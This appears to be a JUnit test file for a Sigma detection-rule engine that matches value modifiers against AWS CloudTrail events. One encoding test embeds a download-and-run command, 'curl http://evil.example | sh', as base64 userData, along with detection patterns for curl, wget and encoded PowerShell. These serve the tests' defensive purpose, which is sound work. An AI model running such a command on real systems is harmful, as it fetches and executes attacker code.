package io.trailguard.rules.sigma;

import io.trailguard.rules.event.CloudTrailEvent;
import io.trailguard.rules.loader.LoadResult;
import io.trailguard.rules.source.Diagnostic;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;

import static io.trailguard.rules.sigma.SigmaTesting.event;
import static io.trailguard.rules.sigma.SigmaTesting.load;
import static io.trailguard.rules.sigma.SigmaTesting.matches;
import static io.trailguard.rules.sigma.SigmaTesting.q;
import static io.trailguard.rules.sigma.SigmaTesting.rule;
import static org.assertj.core.api.Assertions.assertThat;

/** Every value modifier, against CloudTrail-shaped events. */
class ModifierTest {
    static CloudTrailEvent ua(String userAgent) {
        return event("{\"eventName\":\"X\",\"userAgent\":" + com.fasterxml.jackson.databind.node.TextNode
                .valueOf(userAgent).toString() + "}");
    }

    static String sel(String item) {
        return "selection:\n  " + item + "\ncondition: selection\n";
    }

    static String error(String detection) {
        LoadResult r = load(rule(detection));
        assertThat(r.ok()).as("expected a load error").isFalse();
        return r.errors().get(0).toString();
    }

    @Nested
    class Strings {
        @Test
        void plainValuesMatchWholeValuesIgnoringCase() {
            assertThat(matches(sel("userAgent: aws-cli/2.0"), ua("AWS-CLI/2.0"))).isTrue();
            assertThat(matches(sel("userAgent: aws-cli/2.0"), ua("aws-cli/2.0 Python"))).isFalse();
        }

        @Test
        void containsStartswithEndswith() {
            CloudTrailEvent e = ua("Boto3/1.34 Python/3.11 TruffleHog");
            assertThat(matches(sel("userAgent|contains: PYTHON/3"), e)).isTrue();
            assertThat(matches(sel("userAgent|startswith: boto3/"), e)).isTrue();
            assertThat(matches(sel("userAgent|startswith: python"), e)).isFalse();
            assertThat(matches(sel("userAgent|endswith: trufflehog"), e)).isTrue();
            assertThat(matches(sel("userAgent|endswith: boto3"), e)).isFalse();
        }

        @Test
        void containsStarMeansPresentAndNotNull() {
            String d = sel("errorMessage|contains: '*'");
            assertThat(matches(d, q("{'errorMessage':''}"))).isTrue();
            assertThat(matches(d, q("{'errorMessage':'denied'}"))).isTrue();
            assertThat(matches(d, q("{'errorMessage':null}"))).isFalse();
            assertThat(matches(d, q("{'eventName':'X'}"))).isFalse();
        }

        @Test
        void wildcardsAndEscapes() {
            assertThat(matches(sel("userAgent: 'aws-cli/*'"), ua("aws-cli/2.15"))).isTrue();
            assertThat(matches(sel("userAgent: 'aws-cl?/2'"), ua("aws-clX/2"))).isTrue();
            assertThat(matches(sel("userAgent: 'aws-cl?/2'"), ua("aws-cl/2"))).isFalse();
            assertThat(matches(sel("userAgent: 'a\\*b'"), ua("a*b"))).isTrue();
            assertThat(matches(sel("userAgent: 'a\\*b'"), ua("axb"))).isFalse();
            assertThat(matches(sel("userAgent: 'a\\?b'"), ua("a?b"))).isTrue();
            // a backslash before anything else is itself; \\ is one backslash
            assertThat(matches(sel("userAgent: 'C:\\Windows'"), ua("c:\\windows"))).isTrue();
            assertThat(matches(sel("userAgent: 'C:\\\\Windows'"), ua("C:\\Windows"))).isTrue();
            // \\* is a backslash then a wildcard; \\\* a backslash then a literal star
            assertThat(matches(sel("userAgent: 'dir\\\\*'"), ua("dir\\anything"))).isTrue();
            assertThat(matches(sel("userAgent: 'dir\\\\\\*'"), ua("dir\\*"))).isTrue();
            assertThat(matches(sel("userAgent: 'dir\\\\\\*'"), ua("dir\\x"))).isFalse();
            // a trailing backslash is literal
            assertThat(matches(sel("userAgent: 'end\\'"), ua("end\\"))).isTrue();
            // wildcards cross newlines
            assertThat(matches(sel("userAgent: 'a*b'"), ua("a\nb"))).isTrue();
        }

        @Test
        void allAndsTheValues() {
            String d = sel("userAgent|contains|all: [boto3, python]");
            assertThat(matches(d, ua("Boto3 Python"))).isTrue();
            assertThat(matches(d, ua("Boto3 Go"))).isFalse();
            assertThat(matches(sel("userAgent|contains: [boto3, python]"), ua("Boto3 Go"))).isTrue();
        }

        @Test
        void allOnOneValueIsAWarningNotAnError() {
            LoadResult r = load(rule(sel("userAgent|contains|all: boto3")));
            assertThat(r.ok()).isTrue();
            assertThat(r.warnings()).extracting(Diagnostic::message)
                    .anySatisfy(m -> assertThat(m).contains("'all' modifier on a single value"));
        }

        @Test
        void casedIsCaseSensitive() {
            assertThat(matches(sel("userAgent|cased: Boto3"), ua("Boto3"))).isTrue();
            assertThat(matches(sel("userAgent|cased: Boto3"), ua("boto3"))).isFalse();
            assertThat(matches(sel("userAgent|contains|cased: Py"), ua("boto Python"))).isTrue();
            assertThat(matches(sel("userAgent|contains|cased: PY"), ua("boto Python"))).isFalse();
        }

        @Test
        void unicodeCaseFolding() {
            assertThat(matches(sel("userAgent: 'ÉCOLE'"), ua("école"))).isTrue();
            assertThat(matches(sel("userAgent|contains: 'straße'"), ua("STRAßE 1"))).isTrue();
        }
    }

    @Nested
    class Regex {
        @Test
        void reIsAnUnanchoredCaseSensitiveSearch() {
            String d = sel("userIdentity.arn|re: '.+:assumed-role/aws:.+'");
            assertThat(matches(d, q("{'userIdentity':{'arn':'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1'}}")))
                    .isTrue();
            assertThat(matches(d, q("{'userIdentity':{'arn':'arn:aws:sts::1:ASSUMED-ROLE/aws:ec2/i-1'}}"))).isFalse();
            assertThat(matches(sel("userAgent|re: 'ython'"), ua("Python"))).isTrue();
            assertThat(matches(sel("userAgent|re: '^ython'"), ua("Python"))).isFalse();
        }

        @Test
        void flags() {
            assertThat(matches(sel("userAgent|re|i: 'PYTHON'"), ua("python"))).isTrue();
            assertThat(matches(sel("userAgent|re|ignorecase: 'PYTHON'"), ua("python"))).isTrue();
            assertThat(matches(sel("userAgent|re: '^b$'"), ua("a\nb"))).isFalse();
            assertThat(matches(sel("userAgent|re|m: '^b$'"), ua("a\nb"))).isTrue();
            assertThat(matches(sel("userAgent|re|multiline: '^b$'"), ua("a\nb"))).isTrue();
            assertThat(matches(sel("userAgent|re: 'a.b'"), ua("a\nb"))).isFalse();
            assertThat(matches(sel("userAgent|re|s: 'a.b'"), ua("a\nb"))).isTrue();
            assertThat(matches(sel("userAgent|re|dotall: 'a.b'"), ua("a\nb"))).isTrue();
        }

        @Test
        void reValuesAreNotWildcardParsed() {
            assertThat(matches(sel("userAgent|re: 'a\\*b'"), ua("a*b"))).isTrue();
            assertThat(matches(sel("userAgent|re: 'a\\*b'"), ua("aab"))).isFalse();
        }

        @Test
        void invalidOrForbiddenRegexesAreErrorsAtTheItem() {
            assertThat(error(sel("userAgent|re: '(a'"))).startsWith("test.yml:8:5: ")
                    .contains("invalid regular expression '(a'");
            assertThat(error(sel("userAgent|re: '(a)\\1'"))).contains("RE2");
            assertThat(error(sel("userAgent|contains|re: 'a'"))).contains("'re' only applies to unmodified values");
            assertThat(error(sel("userAgent|i: 'a'"))).contains("flag of 're'");
        }

        @Test
        void linearTimeOnHostileInput() {
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < 50_000; i++) {
                sb.append('a');
            }
            long start = System.nanoTime();
            assertThat(matches(sel("userAgent|re: '(a+)+$x'"), ua(sb.toString()))).isFalse();
            assertThat(matches(sel("userAgent: '*a*a*a*a*a*a*a*b'"), ua(sb.toString()))).isFalse();
            assertThat(System.nanoTime() - start).isLessThan(5_000_000_000L);
        }
    }

    @Nested
    class Networks {
        @Test
        void cidrV4AndV6() {
            assertThat(matches(sel("sourceIPAddress|cidr: 10.0.0.0/8"), q("{'sourceIPAddress':'10.2.3.4'}"))).isTrue();
            assertThat(matches(sel("sourceIPAddress|cidr: 10.0.0.0/8"), q("{'sourceIPAddress':'11.2.3.4'}"))).isFalse();
            assertThat(matches(sel("sourceIPAddress|cidr: 192.168.1.0/25"), q("{'sourceIPAddress':'192.168.1.127'}")))
                    .isTrue();
            assertThat(matches(sel("sourceIPAddress|cidr: 192.168.1.0/25"), q("{'sourceIPAddress':'192.168.1.128'}")))
                    .isFalse();
            assertThat(matches(sel("sourceIPAddress|cidr: '2001:db8::/32'"), q("{'sourceIPAddress':'2001:DB8:0:1::5'}")))
                    .isTrue();
            assertThat(matches(sel("sourceIPAddress|cidr: '2001:db8::/32'"), q("{'sourceIPAddress':'2001:db9::5'}")))
                    .isFalse();
            assertThat(matches(sel("sourceIPAddress|cidr: '::ffff:0:0/96'"),
                    q("{'sourceIPAddress':'::ffff:10.0.0.1'}"))).isTrue();
            assertThat(matches(sel("sourceIPAddress|cidr: [10.0.0.0/8, 172.16.0.0/12]"),
                    q("{'sourceIPAddress':'172.20.1.1'}"))).isTrue();
        }

        @Test
        void nonAddressesNeverMatchAndAreNeverLookedUp() {
            String d = sel("sourceIPAddress|cidr: 0.0.0.0/0");
            assertThat(matches(d, q("{'sourceIPAddress':'AWS Internal'}"))).isFalse();
            assertThat(matches(d, q("{'sourceIPAddress':'ec2.amazonaws.com'}"))).isFalse();
            assertThat(matches(d, q("{'sourceIPAddress':'035.249.253.232'}"))).as("leading zeros").isFalse();
            assertThat(matches(d, q("{'sourceIPAddress':'1.2.3.4'}"))).isTrue();
            assertThat(matches(d, q("{'sourceIPAddress':'::1'}"))).as("IPv6 is not in an IPv4 network").isFalse();
        }

        @Test
        void invalidNetworksAreErrors() {
            assertThat(error(sel("sourceIPAddress|cidr: 10.0.0.0/33"))).contains("invalid CIDR network");
            assertThat(error(sel("sourceIPAddress|cidr: 'x*'"))).contains("'cidr' needs a network");
        }
    }

    @Nested
    class Presence {
        @Test
        void existsIsKeyPresenceAndJsonNullExists() {
            assertThat(matches(sel("errorCode|exists: true"), q("{'errorCode':'AccessDenied'}"))).isTrue();
            assertThat(matches(sel("errorCode|exists: true"), q("{'errorCode':null}"))).isTrue();
            assertThat(matches(sel("errorCode|exists: true"), q("{'eventName':'X'}"))).isFalse();
            assertThat(matches(sel("errorCode|exists: false"), q("{'eventName':'X'}"))).isTrue();
            assertThat(matches(sel("errorCode|exists: false"), q("{'errorCode':null}"))).isFalse();
            assertThat(error(sel("errorCode|exists: 'yes'"))).contains("'exists' needs true or false");
            assertThat(error(sel("errorCode|contains|exists: true"))).contains("'contains' needs a string value");
        }

        @Test
        void nullIsAbsentOrJsonNull() {
            assertThat(matches(sel("errorCode: null"), q("{'eventName':'X'}"))).isTrue();
            assertThat(matches(sel("errorCode: null"), q("{'errorCode':null}"))).isTrue();
            assertThat(matches(sel("errorCode: null"), q("{'errorCode':'x'}"))).isFalse();
            assertThat(matches(sel("errorCode: []"), q("{'eventName':'X'}"))).as("empty list means null").isTrue();
        }
    }

    @Nested
    class FieldReferences {
        static final String CALLER_SELF = "{'userIdentity':{'arn':'arn:aws:iam::1:user/Bob'},"
                + "'requestParameters':{'userName':'bob'}}";
        static final String CALLER_OTHER = "{'userIdentity':{'arn':'arn:aws:iam::1:user/alice'},"
                + "'requestParameters':{'userName':'bob'}}";

        @Test
        void fieldrefIsEqualityByDefault() {
            assertThat(matches(sel("userIdentity.userName|fieldref: requestParameters.userName"),
                    q("{'userIdentity':{'userName':'BOB'},'requestParameters':{'userName':'bob'}}"))).isTrue();
            assertThat(matches(sel("userIdentity.arn|fieldref: requestParameters.userName"), q(CALLER_SELF)))
                    .isFalse();
        }

        @Test
        void chainedWithContainsStartswithEndswith() {
            assertThat(matches(sel("userIdentity.arn|fieldref|endswith: requestParameters.userName"), q(CALLER_SELF)))
                    .isTrue();
            assertThat(matches(sel("userIdentity.arn|fieldref|endswith: requestParameters.userName"), q(CALLER_OTHER)))
                    .isFalse();
            assertThat(matches(sel("userIdentity.arn|fieldref|contains: requestParameters.userName"), q(CALLER_SELF)))
                    .isTrue();
            assertThat(matches(sel("userIdentity.arn|fieldref|startswith: requestParameters.userName"), q(CALLER_SELF)))
                    .isFalse();
            assertThat(matches(sel("userIdentity.arn|fieldref|startswith: requestParameters.prefix"),
                    q("{'userIdentity':{'arn':'arn:aws:iam::1:user/x'},'requestParameters':{'prefix':'arn:aws'}}")))
                    .isTrue();
        }

        @Test
        void aMissingReferencedFieldNeverMatches() {
            assertThat(matches(sel("userIdentity.arn|fieldref|contains: requestParameters.nothing"), q(CALLER_SELF)))
                    .isFalse();
        }

        @Test
        void fieldrefRefusesWildcards() {
            assertThat(error(sel("userIdentity.arn|fieldref: 'request*'"))).contains("must not contain wildcards");
        }
    }

    @Nested
    class Negation {
        @Test
        void neqNegatesTheWholeItemAndAMissingFieldIsDifferent() {
            String d = sel("eventSource|neq: [s3.amazonaws.com, iam.amazonaws.com]");
            assertThat(matches(d, q("{'eventSource':'ec2.amazonaws.com'}"))).isTrue();
            assertThat(matches(d, q("{'eventSource':'IAM.amazonaws.com'}"))).isFalse();
            assertThat(matches(d, q("{'eventName':'X'}"))).isTrue();
        }

        @Test
        void neqWithFieldref() {
            String d = sel("userIdentity.userName|fieldref|neq: requestParameters.userName");
            assertThat(matches(d, q("{'userIdentity':{'userName':'a'},'requestParameters':{'userName':'b'}}"))).isTrue();
            assertThat(matches(d, q("{'userIdentity':{'userName':'a'},'requestParameters':{'userName':'a'}}")))
                    .isFalse();
        }
    }

    @Nested
    class Numbers {
        @Test
        void comparisonsOnJsonNumbersAndNumericStrings() {
            CloudTrailEvent e = q("{'additionalEventData':{'bytesTransferredOut':5000,'size':'12.5'}}");
            assertThat(matches(sel("additionalEventData.bytesTransferredOut|gt: 4999"), e)).isTrue();
            assertThat(matches(sel("additionalEventData.bytesTransferredOut|gt: 5000"), e)).isFalse();
            assertThat(matches(sel("additionalEventData.bytesTransferredOut|gte: 5000"), e)).isTrue();
            assertThat(matches(sel("additionalEventData.bytesTransferredOut|lt: 5000"), e)).isFalse();
            assertThat(matches(sel("additionalEventData.bytesTransferredOut|lte: 5000.0"), e)).isTrue();
            assertThat(matches(sel("additionalEventData.size|lt: 13"), e)).isTrue();
            assertThat(matches(sel("additionalEventData.size|gt: 12.4"), e)).isTrue();
            assertThat(matches(sel("eventName|gt: 1"), q("{'eventName':'X'}"))).isFalse();
            assertThat(error(sel("eventName|gt: abc"))).contains("'gt' needs a number");
        }

        @Test
        void yamlNumbersCompareNumericallyOrAsCanonicalText() {
            assertThat(matches(sel("requestParameters.maxItems: 10"), q("{'requestParameters':{'maxItems':10}}")))
                    .isTrue();
            assertThat(matches(sel("requestParameters.maxItems: 10"), q("{'requestParameters':{'maxItems':'10'}}")))
                    .isTrue();
            assertThat(matches(sel("requestParameters.maxItems: 10"), q("{'requestParameters':{'maxItems':10.0}}")))
                    .isTrue();
            assertThat(matches(sel("requestParameters.maxItems: 10"), q("{'requestParameters':{'maxItems':11}}")))
                    .isFalse();
            assertThat(matches(sel("requestParameters.port: 0x16"), q("{'requestParameters':{'port':22}}")))
                    .as("YAML 1.2 hex").isTrue();
        }

        @Test
        void booleansAndYaml12Scalars() {
            CloudTrailEvent e = q("{'readOnly':false,'additionalEventData':{'MFAUsed':'No'}}");
            assertThat(matches(sel("readOnly: false"), e)).isTrue();
            assertThat(matches(sel("readOnly: 'false'"), e)).isTrue();
            assertThat(matches(sel("readOnly: true"), e)).isFalse();
            // YAML 1.2 core schema: NO, yes, on stay strings
            assertThat(matches(sel("additionalEventData.MFAUsed: NO"), e)).isTrue();
            assertThat(matches(sel("additionalEventData.MFAUsed: 'NO'"), e)).isTrue();
        }
    }

    @Nested
    class Dates {
        @Test
        void timePartsOfIsoDates() {
            CloudTrailEvent e = q("{'eventTime':'2024-03-15T23:42:05Z'}");
            assertThat(matches(sel("eventTime|hour: 23"), e)).isTrue();
            assertThat(matches(sel("eventTime|minute: 42"), e)).isTrue();
            assertThat(matches(sel("eventTime|day: 15"), e)).isTrue();
            assertThat(matches(sel("eventTime|month: 3"), e)).isTrue();
            assertThat(matches(sel("eventTime|year: 2024"), e)).isTrue();
            assertThat(matches(sel("eventTime|week: 11"), e)).isTrue();
            assertThat(matches(sel("eventTime|hour|gte: 22"), e)).isTrue();
            assertThat(matches(sel("eventTime|hour|lt: 6"), e)).isFalse();
            assertThat(matches(sel("eventTime|hour: [1, 2, 3]"), e)).isFalse();
            assertThat(matches(sel("eventTime|hour: 23"), q("{'eventTime':'not a date'}"))).isFalse();
        }
    }

    static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    @Nested
    class Encodings {
        @Test
        void base64() {
            assertThat(matches(sel("requestParameters.userData|base64: '#!/bin/bash'"),
                    q("{'requestParameters':{'userData':'" + b64("#!/bin/bash") + "'}}"))).isTrue();
            assertThat(matches(sel("requestParameters.userData|base64|contains: 'curl'"),
                    q("{'requestParameters':{'userData':'xx" + b64("curl") + "yy'}}"))).isTrue();
            assertThat(error(sel("requestParameters.userData|base64: 'a*'"))).contains("wildcards");
        }

        @Test
        void base64offsetFindsTheValueAtAnyByteOffset() {
            for (String prefix : new String[] {"", "a", "ab", "abc", "#!/bin/sh\n"}) {
                String data = b64(prefix + "curl http://evil.example | sh" + "\nexit 0");
                assertThat(matches(sel("requestParameters.userData|base64offset|contains: 'curl http://evil'"),
                        q("{'requestParameters':{'userData':'" + data + "'}}"))).as("prefix '%s'", prefix).isTrue();
            }
            assertThat(matches(sel("requestParameters.userData|base64offset|contains: 'wget'"),
                    q("{'requestParameters':{'userData':'" + b64("curl x") + "'}}"))).isFalse();
        }

        @Test
        void base64offsetVariantsArePySigmas() {
            // pySigma: foobar -> Zm9vYmFy, Zvb2Jhc, mb29iYX
            for (String v : new String[] {"Zm9vYmFy", "Zvb2Jhc", "mb29iYX"}) {
                assertThat(matches(sel("f|base64offset|cased: foobar"), q("{'f':'" + v + "'}"))).as(v).isTrue();
            }
        }

        @Test
        void utf16Encodings() {
            assertThat(matches(sel("f|wide: cmd"), event("{\"f\":\"c\\u0000m\\u0000d\\u0000\"}"))).isTrue();
            assertThat(matches(sel("f|utf16le: cmd"), event("{\"f\":\"c\\u0000m\\u0000d\\u0000\"}"))).isTrue();
            assertThat(matches(sel("f|utf16be: cmd"), event("{\"f\":\"\\u0000c\\u0000m\\u0000d\"}"))).isTrue();
            assertThat(matches(sel("f|utf16: cmd"), event("{\"f\":\"\\u00ff\\u00fec\\u0000m\\u0000d\\u0000\"}")))
                    .isTrue();
            byte[] le = "powershell -enc".getBytes(StandardCharsets.UTF_16LE);
            assertThat(matches(sel("f|wide|base64offset|contains: 'powershell'"), q("{'f':'" + b64(le) + "'}")))
                    .isTrue();
            byte[] bom = {(byte) 0xff, (byte) 0xfe, 'c', 0, 'm', 0, 'd', 0};
            assertThat(matches(sel("f|utf16|base64|cased: cmd"), q("{'f':'" + b64(bom) + "'}"))).isTrue();
        }

        @Test
        void windashMakesOptionDashesInterchangeable() {
            String d = sel("f|windash|contains: ' -exec '");
            assertThat(matches(d, event("{\"f\":\"a -exec b\"}"))).isTrue();
            assertThat(matches(d, event("{\"f\":\"a /exec b\"}"))).isTrue();
            assertThat(matches(d, event("{\"f\":\"a \u2013exec b\"}"))).isTrue();
            assertThat(matches(d, event("{\"f\":\"a \u2014exec b\"}"))).isTrue();
            assertThat(matches(d, event("{\"f\":\"a \u2015exec b\"}"))).isTrue();
            assertThat(matches(d, event("{\"f\":\"a +exec b\"}"))).isFalse();
            // a dash inside a word is not an option dash
            assertThat(matches(sel("f|windash: 'well-known'"), event("{\"f\":\"well/known\"}"))).isFalse();
            // windash before an encoding expands every permutation
            assertThat(matches(sel("f|windash|base64: '-e'"), q("{'f':'" + b64("/e") + "'}"))).isTrue();
        }
    }

    @Nested
    class Placeholders {
        @Test
        void expandWithoutPlaceholdersIsAPlainValue() {
            assertThat(matches(sel("f|expand: '50\\%'"), q("{'f':'50%'}"))).isTrue();
            assertThat(matches(sel("f: '%notaplaceholder%'"), q("{'f':'%notaplaceholder%'}"))).as("no expand").isTrue();
        }

        @Test
        void anUnresolvablePlaceholderRejectsTheRule() {
            LoadResult r = load(rule(sel("sourceIPAddress|expand: '%Legitimate_IP_Ranges%'")));
            assertThat(r.ok()).isTrue();
            assertThat(r.ruleSet().rules()).isEmpty();
            assertThat(r.warnings()).extracting(Diagnostic::toString).singleElement().asString()
                    .startsWith("test.yml:8:5: warning: Sigma rule 5f0b3c1e-7a55-4a8e-9a44-3a2b1c0d9e8f (Test rule) "
                            + "rejected: placeholder %Legitimate_IP_Ranges% has no value");
        }
    }

    @Test
    void anUnknownModifierIsAnErrorAtItsKey() {
        assertThat(error(sel("userAgent|contain: x"))).startsWith("test.yml:8:5: ").contains("unknown modifier 'contain'");
    }
}
